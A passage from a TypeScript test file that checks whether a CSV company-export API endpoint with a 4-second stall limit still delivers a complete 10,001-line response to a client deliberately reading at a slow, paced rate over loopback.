      // Loopback TCP acknowledges a paced reader in steps of about 256 KB (its receive window
      // reopens once 1/16 of its buffer is free): at 200 KB/s a step every ~1.5 s, under the
      // 4 s limit, while the socket's own buffer (MBs) takes the API's bytes only every ~8 s.
      const RATE = 200_000;
      const SLOW_FOR_MS = 12_000;
      const strict = await apiWithStallLimit(4000);
      try {
        const { status, complete, body } = await new Promise<{ status?: number; complete: boolean; body: string }>((resolve, reject) => {
          const req = http.get(
            `${strict.origin}/rest/companies/export?format=csv&fields=name`,
            { headers: { Authorization: `Bearer ${big.keys.Admin}` } },
            (res) => {
              const chunks: Buffer[] = [];
              const started = Date.now();
              res.on('data', (chunk: Buffer) => {
                chunks.push(chunk);
                if (Date.now() - started > SLOW_FOR_MS) return;
                res.pause();
                setTimeout(() => res.resume(), (chunk.length / RATE) * 1000);
              });
              const done = () => resolve({ status: res.statusCode, complete: res.complete, body: Buffer.concat(chunks).toString('utf8') });
              res.on('end', done);
              res.on('error', done);
              res.on('close', done);
            },
          );
          req.on('error', reject);
        });
        expect(status).toBe(200);
        expect(complete).toBe(true);
        expect(lines(body)).toHaveLength(10001);
      } finally {
        await strict.close();
      }
    }, 60_000);
  });
});
